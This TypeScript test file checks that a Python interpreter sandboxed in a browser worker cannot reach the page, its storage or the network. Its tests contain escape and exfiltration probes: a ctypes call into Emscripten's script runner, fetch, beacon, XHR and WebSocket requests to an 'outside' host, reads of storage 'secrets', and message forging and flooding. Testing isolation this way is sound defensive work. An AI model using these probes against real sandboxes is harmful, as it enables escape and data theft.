/**
 * Python reaches nothing but what the sandbox gives it. First as a reader finds things: the names that lead to
 * JavaScript elsewhere lead nowhere. Then with a way into the worker's JavaScript, which whoever knows the
 * interpreter's own memory has: the cell still lets nothing out.
 *
 * Under Node runs what Python itself promises. What the cell promises is for a page to prove: a thread of Node
 * has a network and files, and whoever has its JavaScript has them too.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { serveHarness } from '../../src/harness/serve.ts';
import { openHarness, type Harness, type HarnessPage } from '../support/harness.ts';
import { openNodeHarness } from '../support/node-harness.ts';
import { openOutside, unguarded } from './isolation/page.ts';
import type { Page } from 'playwright';

/** Where Python runs, and what could be reached from there. */
interface Place {
  readonly page: HarnessPage;
  /** Addresses of the site and of another host. */
  readonly site: string;
  readonly outside: string;
  /** Every request that arrived at one of them. */
  readonly requests: string[];
}

const runOn = (page: HarnessPage, program: string) =>
  page.evaluate((program) => window.harness.run('python', { 'main.py': program }, 'python main.py'), program);

/** Runs JavaScript in the worker, by the function that Emscripten leaves in the interpreter for its own use. */
const inWorker = (script: string) => `
import ctypes
run = ctypes.CDLL(None).emscripten_run_script_string
run.restype = ctypes.c_char_p
print(run(${JSON.stringify(script)}.encode()).decode())
`;

/** What Python promises wherever it runs. */
function promises(at: () => Place) {
  const run = (program: string) => runOn(at().page, program);

  test('the bridges of Pyodide are not there, and an import says so', async () => {
    const names = [
      'js',
      'js.document',
      'pyodide',
      'pyodide_js',
      'pyodide.ffi',
      'pyodide.code',
      '_pyodide_core',
      'micropip',
    ];
    const ran = await run(`
import importlib, sys
for name in ${JSON.stringify(names)}:
    try:
        importlib.import_module(name)
        print(name, 'is there')
    except ModuleNotFoundError as error:
        print(str(error).endswith('programs on this page reach neither the page nor a package index'), error.name)
print([name for name in sys.modules if 'pyodide' in name or name.partition('.')[0] == 'js'])
`);
    assert.deepEqual(ran.exit, { code: 0 }, ran.stderr);
    assert.equal(
      ran.stdout,
      `${names.map((name) => `True ${name.split('.')[0] === 'js' ? 'js' : name.split('.')[0]}\n`).join('')}[]\n`,
    );
  });

  test('no network: each way out is an error at once, and no request is made', async () => {
    at().requests.length = 0;
    const ran = await run(`
import asyncio, http.client, os, socket, urllib.request
site, outside = ${JSON.stringify([at().site, at().outside])}
async def stream(): await asyncio.open_connection('127.0.0.1', 80)
for name, attempt in {
    'urllib to the site': lambda: urllib.request.urlopen(site + 'leak/urllib'),
    'urllib elsewhere': lambda: urllib.request.urlopen(outside + 'leak/urllib'),
    'http.client': lambda: http.client.HTTPConnection('127.0.0.1', 80).request('GET', '/leak/http'),
    'socket': lambda: socket.create_connection(('127.0.0.1', 80)),
    'a socket by address': lambda: socket.socket().connect(('127.0.0.1', 80)),
    'a name': lambda: socket.getaddrinfo('example.com', 80),
    'asyncio': lambda: asyncio.run(stream()),
    'listening': lambda: socket.create_server(('127.0.0.1', 3000)),
}.items():
    try:
        print(name, 'went', attempt())
    except Exception as error:
        print(name, 'failed')
`);
    assert.deepEqual(ran.exit, { code: 0 }, ran.stderr);
    assert.doesNotMatch(ran.stdout, /went/);
    assert.equal(ran.stdout.split('\n').length, 9);
    assert.deepEqual(at().requests, []);
  });

  test('messages that are forged in the worker concern its own program alone', async () => {
    const forged = await run(
      inWorker(
        "postMessage({ type: 'output', chunks: [[1, 'forged'], [7, {}]] }); postMessage(null); postMessage({ type: 'exit', code: 'x' }); postMessage({ type: 'port', port: 1, open: true }); ''",
      ),
    );
    assert.deepEqual(forged.exit, { code: 0 });
    assert.equal(forged.stdout, '\n');
    assert.deepEqual(forged.ports, []);
    const next = await run("print('alive')");
    assert.equal(next.stdout, 'alive\n');
  });
}

describe('in Chromium', () => {
  let harness: Harness;
  let outside: Awaited<ReturnType<typeof openOutside>>;
  let context: Awaited<ReturnType<typeof unguarded>>;
  let page: Page;

  before(async () => {
    harness = await openHarness();
    outside = await openOutside(harness.requests);
    context = await unguarded(harness, outside.url);
    page = await context.newPage();
    await page.goto(harness.url);
    await page.waitForFunction(() => 'harness' in window);
    await page.evaluate(async () => {
      localStorage.setItem('secret', 'secret of the page');
      document.cookie = 'secret=of-the-page; path=/';
      await window.harness.machine('python');
    });
    harness.requests.length = 0;
  });
  after(async () => {
    await context?.browser()?.close();
    await outside?.close();
    await harness?.close();
  });

  const run = (program: string) => runOn(page, program);
  promises(() => ({ page, site: harness.url, outside: outside.url, requests: harness.requests }));

  test('with the worker’s JavaScript in hand: no page, no storage, no origin', async () => {
    const ran = await run(
      inWorker(`
      (() => {
        const seen = {};
        for (const name of ['document', 'window', 'parent', 'top', 'opener', 'localStorage', 'sessionStorage', 'cookieStore'])
          seen[name] = typeof globalThis[name];
        seen.origin = globalThis.origin;
        for (const [name, attempt] of Object.entries({
          indexedDB: () => indexedDB.open('secrets'),
          storage: () => navigator.storage.getDirectory,
          caches: () => globalThis.caches && 'caches',
        })) try { seen[name] = String(attempt()); } catch (error) { seen[name] = error.name; }
        return JSON.stringify(seen);
      })()`),
    );
    assert.deepEqual(ran.exit, { code: 0 }, ran.stderr);
    const seen = JSON.parse(ran.stdout) as Record<string, string>;
    assert.equal(seen['origin'], 'null');
    assert.equal(seen['indexedDB'], 'SecurityError');
    for (const name of ['document', 'window', 'parent', 'localStorage', 'sessionStorage'])
      assert.equal(seen[name], 'undefined', name);
  });

  test('with the worker’s JavaScript in hand: no request leaves', async () => {
    harness.requests.length = 0;
    const script = `
    (() => {
      const went = [];
      const attempt = (name, call) => { try { call(); went.push(name); } catch {} };
      for (const base of ${JSON.stringify([harness.url, outside.url])}) {
        attempt('fetch', () => fetch(base + 'leak/fetch', { mode: 'no-cors' }).catch(() => {}));
        attempt('beacon', () => navigator.sendBeacon(base + 'leak/beacon'));
        attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', base + 'leak/xhr', false); x.send(); });
        attempt('script', () => importScripts(base + 'leak/script.js'));
        attempt('socket', () => new WebSocket(base.replace('http', 'ws') + 'leak/socket'));
        attempt('events', () => new EventSource(base + 'leak/events'));
        attempt('import', () => import(base + 'leak/import.mjs').catch(() => {}));
        attempt('worker', () => new Worker(base + 'leak/worker.js'));
      }
      return went.join();
    })()`;
    const ran = await run(`${inWorker(script)}\nimport time\ntime.sleep(0.5)`);
    assert.deepEqual(ran.exit, { code: 0 }, ran.stderr);
    assert.match(ran.stdout, /fetch/, 'it was tried');
    await page.waitForTimeout(300);
    assert.deepEqual(harness.requests, []);
  });

  test('a flood of messages ends the program, and the next run works', async () => {
    const ran = await run(inWorker("for (let i = 0; i < 1e5; i++) postMessage({ type: 'noise' }); ''"));
    assert.deepEqual(ran.exit, { stopped: 'output' });
    assert.equal((await run("print('alive')")).stdout, 'alive\n');
  });

  test('the page is as it was', async () => {
    const { address, secret, frames } = await page.evaluate(() => ({
      address: location.href,
      secret: localStorage.getItem('secret'),
      frames: document.querySelectorAll('iframe').length,
    }));
    assert.deepEqual(
      { address, secret, frames },
      { address: harness.url, secret: 'secret of the page', frames: 1 },
    );
  });
});

describe('under Node', () => {
  let served: Awaited<ReturnType<typeof serveHarness>>;
  let outside: Awaited<ReturnType<typeof openOutside>>;
  let harness: Awaited<ReturnType<typeof openNodeHarness>>;
  before(async () => {
    served = await serveHarness();
    outside = await openOutside(served.requests);
    harness = await openNodeHarness('python');
  });
  after(async () => {
    await harness?.close();
    await outside?.close();
    await served?.close();
  });
  promises(() => ({ page: harness.page, site: served.url, outside: outside.url, requests: served.requests }));
});
